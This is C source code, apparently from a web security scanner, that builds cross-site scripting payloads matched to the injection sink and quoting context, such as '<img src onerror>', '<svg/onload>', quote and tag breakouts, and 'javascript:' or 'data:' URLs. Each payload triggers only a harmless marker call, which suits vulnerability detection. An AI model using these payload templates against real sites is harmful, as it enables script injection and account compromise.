/* Payloads of the browser's own check: each runs the harmless call of page.js when the text
 * around it becomes markup, code or an address. Which ones are tried is told by what stood
 * before our word when it reached the dangerous place. */
#include "base/limits.h"
#include "scan/browse/browse_private.h"
#include "scan/script.h"

static bool is_any(struct str kind, const char *const *list)
{
	for (; *list; list++)
		if (str_eq(kind, str_c(*list)))
			return true;
	return false;
}

static const char *const html_kinds[] = { "innerHTML", "outerHTML", "insertAdjacentHTML", "document.write",
					  "createContextualFragment", "parseFromString", "srcdoc", NULL };
static const char *const code_kinds[] = { "eval", "Function", "setTimeout", "setInterval", "handler", "script.text", NULL };

/* The quote of the attribute that byte `at` stands in; 0 outside of tags, ' ' without quote. */
static char attribute_quote(struct str html, size_t at)
{
	bool in_tag = false;
	char quote = 0;
	for (size_t i = 0; i < at && i < html.len; i++) {
		char c = html.ptr[i];
		if (quote)
			quote = c == quote ? 0 : quote;
		else if (in_tag && (c == '"' || c == '\''))
			quote = c;
		else if (c == '<')
			in_tag = true;
		else if (c == '>')
			in_tag = false;
	}
	return quote ? quote : in_tag ? ' ' : 0;
}

static size_t html_payloads(struct arena *a, struct str value, size_t at, const char *call, struct str out[XSS_PAYLOADS])
{
	char quote = attribute_quote(value, at);
	size_t n = 0;
	if (quote == ' ')
		out[n++] = arena_printf(a, "x autofocus tabindex=0 onfocus=%s ", call);
	else if (quote)
		out[n++] = arena_printf(a, "x%c autofocus tabindex=0 onfocus=%s x=%c", quote, call, quote);
	else
		out[n++] = arena_printf(a, "<img src onerror=%s>", call);
	out[n++] = arena_printf(a, "\"'--></textarea></title></style></script></option></select><img src onerror=%s>", call);
	out[n++] = arena_printf(a, "'\"><script>%s</script>", call);
	out[n++] = arena_printf(a, "<svg/onload=%s>", call);
	out[n++] = arena_printf(a, "<><img src onerror=%s>", call); /* where only the first "<" is looked at */
	return n;
}

static size_t code_payloads(struct arena *a, struct str value, size_t at, const char *call, struct str out[XSS_PAYLOADS])
{
	enum script_state s = script_state_at(value, at < value.len ? at : value.len);
	const char *q = s == SCRIPT_SINGLE ? "'" : s == SCRIPT_DOUBLE ? "\"" : "";
	out[0] = s == SCRIPT_TEMPLATE ? arena_printf(a, "${%s}", call) :
		 *q		      ? arena_printf(a, "%s-%s-%s", q, call, q) :
				      arena_printf(a, "%s", call);
	out[1] = arena_printf(a, "%s;%s//", q, call);
	out[2] = arena_printf(a, "%s);%s//", q, call);
	if (!*q)
		return 3;
	out[3] = arena_printf(a, "\\%s;%s//", q, call); /* where quotes are escaped and backslashes are not */
	return 4;
}

size_t xss_payloads(struct driver *d, const json_t *sink, unsigned n, struct str out[XSS_PAYLOADS])
{
	struct arena *a = d->job_arena;
	struct str kind = json_get_str(sink, "kind"), value = json_get_str(sink, "value");
	int64_t before = json_get_int(sink, "before", 0);
	size_t at = (size_t)json_get_int(sink, "at", 0);
	const char *call = arena_cstr(a, arena_printf(a, "%sm(%u)", d->key, n));
	if (is_any(kind, html_kinds))
		return html_payloads(a, value, at, call, out);
	if (is_any(kind, code_kinds))
		return code_payloads(a, value, at, call, out);
	if (before != 0)
		return 0; /* only the end of an address is ours */
	if (str_eq(kind, STR("script.src"))) {
		out[0] = arena_printf(a, "data:text/javascript,%s", call);
		return 1;
	}
	if (str_eq(kind, STR("fetch"))) { /* the answer is ours: does it become markup, or code? */
		out[0] = arena_printf(a, "data:text/html,<img src onerror=%s>", call);
		out[1] = arena_printf(a, "data:text/javascript,%s", call);
		return 2;
	}
	out[0] = arena_printf(a, "javascript:%s", call);
	return 1;
}
